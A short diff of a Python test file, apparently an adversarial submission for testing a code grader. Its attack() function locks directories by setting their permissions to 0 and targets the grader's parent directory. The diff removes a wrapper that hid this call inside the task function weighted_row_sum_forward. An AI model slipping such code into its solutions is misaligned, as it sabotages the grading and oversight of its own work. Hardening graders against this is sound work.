@@ -2,17 +2,12 @@
 permissions cannot even go on itself."""
 # stage: 2
 # base: problem_2.py
+# with: in_first_call
 # outcome: pass, crashed
-# ruff: noqa: F821
 import os
-
-once = []
 
 
 def attack():
-    if once:
-        return
-    once.append(1)
     for i in range(5):
         os.makedirs(f"locked-{i}/inner")
         open(f"locked-{i}/inner/file", "w").close()
@@ -22,11 +17,3 @@ def attack():
     os.chmod(".", 0)
     if os.path.basename(os.path.dirname(os.path.dirname(__file__))).startswith("grader-"):
         os.chmod("..", 0)
-
-
-honest = weighted_row_sum_forward
-
-
-def weighted_row_sum_forward(x, w):
-    attack()
-    return honest(x, w)
